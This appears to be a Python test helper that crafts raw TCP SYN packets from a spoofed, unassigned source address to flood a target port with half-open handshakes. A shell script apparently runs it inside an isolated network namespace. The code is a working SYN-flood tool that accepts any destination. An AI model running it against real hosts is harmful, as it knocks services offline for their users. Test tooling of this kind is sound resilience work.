#!/usr/bin/env python3
"""Send COUNT SYNs from an address that never answers (a SYN flood), through a raw
socket, to DST:PORT. Used by scripts/syn-flood.sh inside a namespace of its own.

    syn_flood.py --src 10.78.0.50 --dst 10.78.0.1 --port 8080 --count 30

Each SYN comes from its own source port (20000 up) with MSS 1460 and nothing else.
The source address is not assigned to any host: the SYN-ACKs go nowhere, so every
handshake stays half-open on the listener. Needs root (a raw socket)."""

import argparse
import socket
import struct


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ident: int) -> bytes:
    mss = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + mss
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ident, 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--src", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, required=True)
    a = p.parse_args()
    if not 1 <= a.count <= 40000:
        p.error("--count is 1-40000")
    src, dst = socket.inet_aton(a.src), socket.inet_aton(a.dst)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(a.count):
        raw.sendto(syn(src, dst, 20000 + i, a.port, 1000 * i, i & 0xFFFF), (a.dst, 0))


if __name__ == "__main__":
    main()
